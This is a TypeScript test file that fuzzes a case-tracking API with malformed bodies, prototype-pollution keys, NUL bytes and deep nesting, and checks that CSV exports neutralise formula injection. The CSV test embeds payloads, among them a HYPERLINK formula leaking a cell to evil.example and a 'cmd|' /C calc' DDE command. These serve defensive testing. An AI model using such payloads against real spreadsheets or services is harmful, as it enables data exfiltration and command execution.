import request from 'supertest';
import { createTestApp, type TestApp } from '../support/test-app.js';

type Schema = {
  properties?: Record<string, { type?: string; $ref?: string; items?: unknown }>;
  required?: string[];
};
type OpenApi = {
  paths: Record<
    string,
    Record<string, { requestBody?: { content?: Record<string, { schema?: { $ref?: string } }> } }>
  >;
  components?: { schemas?: Record<string, Schema> };
};

const WRONG: Record<string, unknown[]> = {
  string: [42, true, {}, [], { $ne: 1 }, null, -1e308],
  number: ['12', true, {}, [], null, 'NaN', '1e400'],
  integer: ['3', 3.5, {}, [], null, true],
  boolean: ['true', 1, 0, {}, [], null],
  array: ['x', 1, {}, null, true],
  object: ['x', 1, [], null, true],
};
const ANY_WRONG = [null, { nested: { deeper: [1, { x: '\u0000' }] } }, ['a', 1, null]];

const nested = (depth: number): unknown => (depth === 0 ? 'fond' : { a: nested(depth - 1) });

/** Bodies that no command may accept: wrong types, unknown or dangerous keys, huge or odd strings. */
function malformedBodies(schema: Schema | undefined): { body: string; why: string }[] {
  const bodies: { body: string; why: string }[] = [];
  const push = (value: unknown, why: string) => bodies.push({ body: JSON.stringify(value), why });
  for (const top of [[], 'text', 42, true]) push(top, `top-level ${JSON.stringify(top)}`);
  for (const raw of ['{', '{"a":', 'null', '{"a":1,}', '\u0000', '{"title": "\\ud800"']) {
    bodies.push({ body: raw, why: `raw ${JSON.stringify(raw)}` });
  }
  for (const [name, property] of Object.entries(schema?.properties ?? {})) {
    const wrong = WRONG[property.type ?? ''] ?? ANY_WRONG;
    wrong.forEach((value) => push({ [name]: value }, `${name} = ${JSON.stringify(value)}`));
    if (property.type === 'string') {
      push({ [name]: 'x'.repeat(20_000) }, `${name}: 20,000 characters`);
      push({ [name]: '\ud83d\ude00 ‮ \u0000 é', intrus: 1 }, `${name}: unicode edge + unknown property`);
    }
  }
  bodies.push({ body: '{"__proto__": {"polluted": true}}', why: '__proto__' });
  bodies.push({ body: '{"constructor": {"prototype": {"polluted": true}}}', why: 'constructor.prototype' });
  bodies.push({ body: '{"__proto__": {"isAdmin": true}, "prototype": {}}', why: '__proto__ isAdmin' });
  push({ unknownField: 1 }, 'unknown property');
  push({ '\u0000': 1 }, 'NUL key');
  push({ '\ud800': 'x' }, 'lone surrogate key');
  push({ a: nested(60) }, 'deeply nested object');
  push({ list: Array.from({ length: 5000 }, (_, i) => i) }, 'long unknown array');
  bodies.push({ body: JSON.stringify({ big: 'x'.repeat(200_000) }), why: 'body over the size limit' });
  return bodies;
}

describe('Fuzzing every command endpoint (POST, PUT, PATCH) with malformed bodies', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('When 1,000+ malformed bodies are sent, then every answer is 4xx problem+json and the store is unchanged', async () => {
    const demand = await t
      .http()
      .post('/api/demands')
      .send({
        antennaId: 'ant-bethune',
        title: 'Recruter au moins 1 ASE',
        category: 'hr',
        explicit: true,
        priority: 'high',
        addressees: [{ role: 'DFSPIP', organisation: 'spip-62' }],
        level: 'local',
      })
      .expect(201);
    const doc = (await request(t.app.getHttpServer()).get('/api/docs-json').expect(200)).body as OpenApi;
    const count = async () =>
      Number(
        (await t.database.db.query<{ n: string }>('SELECT count(*)::text AS n FROM es.events')).rows[0]?.n,
      );
    const before = await count();
    let sent = 0;
    const methods = new Set<string>();
    const failures: string[] = [];
    for (const [path, operations] of Object.entries(doc.paths)) {
      for (const method of ['post', 'put', 'patch'] as const) {
        const operation = operations[method];
        // Login is rate-limited and logout takes no body: both are covered in security.e2e-spec.ts.
        if (!operation || path === '/api/auth/login' || path === '/api/auth/logout') continue;
        // Routes that take no body at all (e.g. the admin's deadline check) have nothing to validate.
        if (!operation.requestBody) continue;
        const ref = operation.requestBody?.content?.['application/json']?.schema?.$ref;
        const schema = ref ? doc.components?.schemas?.[ref.split('/').pop() ?? ''] : undefined;
        const url = path
          .replace('{id}', path.startsWith('/api/demands') ? demand.body.id : 'x1')
          .replace(/\{\w+\}/g, 'x1');
        for (const { body, why } of malformedBodies(schema)) {
          const response = await t.http()[method](url).set('Content-Type', 'application/json').send(body);
          sent++;
          const problem = String(response.headers['content-type']).includes('application/problem+json');
          // 401/403 would mean the body was never examined: the fuzzer runs as an admin, so they count as failures.
          if (
            response.status < 400 ||
            response.status >= 500 ||
            [401, 403].includes(response.status) ||
            !problem
          ) {
            failures.push(
              `${method.toUpperCase()} ${url} [${why}] → ${response.status} ${String(response.headers['content-type'])}`,
            );
          }
        }
        methods.add(method);
      }
    }
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThanOrEqual(1000);
    // The admin settings (deadline rules, reference ratios) are PUT routes: they are fuzzed too.
    expect([...methods].sort()).toEqual(expect.arrayContaining(['post', 'put']));
    expect(await count()).toBe(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  }, 300_000);

  // Issue 10, defect 7: strings PostgreSQL cannot store and hostile nesting in otherwise VALID requests used to
  // reach the database (500). Each now answers 400 problem+json naming the field, and records nothing.
  describe('NUL bytes, lone surrogates and deep nesting (defect 7)', () => {
    const VALID_DEMAND = {
      antennaId: 'ant-bethune',
      title: 'Recruter au moins 1 ASE',
      category: 'hr',
      explicit: true,
      priority: 'high',
      addressees: [{ role: 'DFSPIP', organisation: 'spip-62' }],
      level: 'local',
    };
    const eventCount = async () =>
      Number(
        (await t.database.db.query<{ n: string }>('SELECT count(*)::text AS n FROM es.events')).rows[0]?.n,
      );
    /** The raw JSON of `body` with the string at `path` replaced by a JSON string literal written by hand. */
    const withRaw = (body: Record<string, unknown>, path: (string | number)[], literal: string): string => {
      const marker = '__MARKER__';
      const copy = JSON.parse(JSON.stringify(body)) as Record<string, unknown>;
      let target = copy as Record<string | number, unknown>;
      path.slice(0, -1).forEach((key) => (target = target[key] as Record<string | number, unknown>));
      target[path[path.length - 1] as string | number] = marker;
      return JSON.stringify(copy).replace(`"${marker}"`, literal);
    };
    const fieldName = (path: (string | number)[]) =>
      path.reduce<string>(
        (name, key) => (typeof key === 'number' ? `${name}[${key}]` : name ? `${name}.${key}` : key),
        '',
      );
    const expectFieldProblem = (response: request.Response, field: string, why: string) => {
      expect({ why, status: response.status }).toEqual({ why, status: 400 });
      expect(response.headers['content-type']).toContain('application/problem+json');
      expect((response.body as { errors?: { field: string }[] }).errors?.map((e) => e.field)).toEqual([
        field,
      ]);
    };

    it('When a valid command carries a NUL byte or a lone surrogate in any string, then 400 naming the field', async () => {
      const before = await eventCount();
      const paths: (string | number)[][] = [
        ['antennaId'],
        ['title'],
        ['category'],
        ['addressees', 0, 'role'],
      ];
      for (const path of paths) {
        for (const literal of ['"a\\u0000b"', '"\\ud800x"', '"x\\udc00"', '"\\u0000"']) {
          const body = withRaw(VALID_DEMAND, path, literal);
          const response = await t
            .http()
            .post('/api/demands')
            .set('Content-Type', 'application/json')
            .send(body);
          expectFieldProblem(response, fieldName(path), `${fieldName(path)} = ${literal}`);
        }
      }
      // A key that PostgreSQL cannot store either.
      const key = await t
        .http()
        .post('/api/demands')
        .set('Content-Type', 'application/json')
        .send(JSON.stringify(VALID_DEMAND).replace('"title"', '"ti\\u0000tle"'));
      expect(key.status).toBe(400);
      expect(await eventCount()).toBe(before);
    });

    it('When the unauthenticated login carries a NUL byte or a lone surrogate, then 400 naming the field', async () => {
      const login = (body: string, query = '') =>
        request(t.app.getHttpServer())
          .post(`/api/auth/login${query}`)
          .set('Content-Type', 'application/json')
          .send(body);
      expectFieldProblem(await login('{"email":"a\\u0000@b.fr","password":"x"}'), 'email', 'NUL in e-mail');
      expectFieldProblem(
        await login('{"email":"a@b.fr","password":"\\ud800"}'),
        'password',
        'lone surrogate',
      );
      expectFieldProblem(
        await login('{"email":"a@b.fr","password":"x"}', '?next=%00'),
        'next',
        'NUL in query',
      );
    });

    it('When any GET route gets a NUL byte in a query parameter, then 400 naming it, never 5xx', async () => {
      const doc = (await request(t.app.getHttpServer()).get('/api/docs-json').expect(200)).body as {
        paths: Record<string, Record<string, { parameters?: { name: string; in: string }[] }>>;
      };
      const failures: string[] = [];
      let sent = 0;
      for (const [path, operations] of Object.entries(doc.paths)) {
        const get = operations.get;
        if (!get) continue;
        const names = [
          'antennaId',
          ...(get.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
        ];
        const url = path.replace(/\{\w+\}/g, 'x1');
        for (const name of new Set(names)) {
          const response = await t.http().get(`${url}?${name}=%00`);
          sent++;
          const problem = String(response.headers['content-type']).includes('application/problem+json');
          if (response.status !== 400 || !problem)
            failures.push(`GET ${url}?${name}=%00 → ${response.status}`);
        }
      }
      expect(failures).toEqual([]);
      expect(sent).toBeGreaterThan(20);
    });

    it('When JSON is nested 2,000 levels deep, then every command route answers 400, never 5xx', async () => {
      const before = await eventCount();
      const deep = `{"title":${'['.repeat(2000)}1${']'.repeat(2000)}}`;
      const doc = (await request(t.app.getHttpServer()).get('/api/docs-json').expect(200)).body as OpenApi;
      const failures: string[] = [];
      for (const [path, operations] of Object.entries(doc.paths)) {
        for (const method of ['post', 'put', 'patch'] as const) {
          if (!operations[method]?.requestBody) continue;
          const url = path.replace(/\{\w+\}/g, 'x1');
          const response = await t.http()[method](url).set('Content-Type', 'application/json').send(deep);
          if (response.status !== 400) failures.push(`${method.toUpperCase()} ${url} → ${response.status}`);
        }
      }
      expect(failures).toEqual([]);
      expectFieldProblem(
        await t.http().post('/api/demands').set('Content-Type', 'application/json').send(deep),
        'title' + '[0]'.repeat(31),
        'deep nesting',
      );
      expect(await eventCount()).toBe(before);
    });
  });
});

/** Spreadsheet formula prefixes (OWASP CSV injection): a cell starting with one of them must never run. */
const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

describe('Fuzzing the CSV exports with formula prefixes in titles and authors', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('When titles and management authors start with =, +, -, @, tab or CR, then every CSV cell is neutralised', async () => {
    const post = (path: string, body: object) => t.http().post(path).send(body);
    await post('/api/units', { unitId: 'dap-99', kind: 'DAP', name: 'DAP 99' }).expect(201);
    await post('/api/units', { unitId: 'disp-99', kind: 'DISP', name: 'DISP 99', parentId: 'dap-99' }).expect(
      201,
    );
    await post('/api/units', {
      unitId: 'spip-99',
      kind: 'SPIP',
      name: 'SPIP 99',
      parentId: 'disp-99',
    }).expect(201);
    await post('/api/units', {
      unitId: 'ant-99',
      kind: 'ANTENNA',
      name: 'Antenne 99',
      parentId: 'spip-99',
      milieu: 'MO',
    }).expect(201);
    const meeting = await post('/api/meetings', {
      instanceId: 'csa-spip-99',
      instanceName: 'CSA SPIP 99',
      instanceType: 'csa_spip_local',
      scheduledFor: '2024-06-01',
      occurredAt: '2024-02-01T09:00:00.000Z',
    }).expect(201);
    const payloads = FORMULA_PREFIXES.flatMap((prefix) => [
      `${prefix}HYPERLINK("http://evil.example/?"&A1;"cliquer")`,
      `${prefix}1+1`,
      `${prefix}cmd|' /C calc'!A0`,
    ]);
    for (const [i, title] of payloads.entries()) {
      const demand = await post('/api/demands', {
        antennaId: 'ant-99',
        title: `${title} ${i}`,
        category: 'staffing_recruitment',
        explicit: true,
        priority: 'high',
        addressees: [{ role: 'DFSPIP', organisation: 'spip-99' }],
        level: 'local',
        occurredAt: '2024-02-23T09:00:00.000Z',
      }).expect(201);
      await post(`/api/demands/${demand.body.id}/submissions`, {
        channel: 'letter',
        addressee: { role: 'DFSPIP', organisation: 'spip-99' },
        submittedAt: '2024-02-24',
      }).expect(201);
      await post(`/api/demands/${demand.body.id}/responses`, {
        stance: 'defer',
        text: 'Réponse',
        authorRole: title,
        channel: 'letter',
        respondedAt: '2024-03-01',
        newDueAt: '2024-04-30',
      }).expect(201);
    }
    for (const separateur of ['point-virgule', 'virgule']) {
      const csv = await t
        .http()
        .get(`/api/meetings/${meeting.body.id}/summary.csv?separateur=${separateur}`)
        .expect(200);
      const separator = separateur === 'virgule' ? ',' : ';';
      const cells = cellsOf(csv.text.slice(1), separator);
      expect(cells.length).toBeGreaterThan(payloads.length * 2);
      const live = cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell));
      expect(live).toEqual([]);
      for (const title of payloads) expect(cells.some((cell) => cell.startsWith(`'${title}`))).toBe(true);
    }
  }, 120_000);
});

/** The cells of a CSV as a spreadsheet reads them (quoted fields unquoted, doubled quotes undone). */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === separator || (c === '\r' && text[i + 1] === '\n')) {
      cells.push(field);
      field = '';
      if (c === '\r') i++;
    } else field += c;
  }
  if (field !== '') cells.push(field);
  return cells;
}
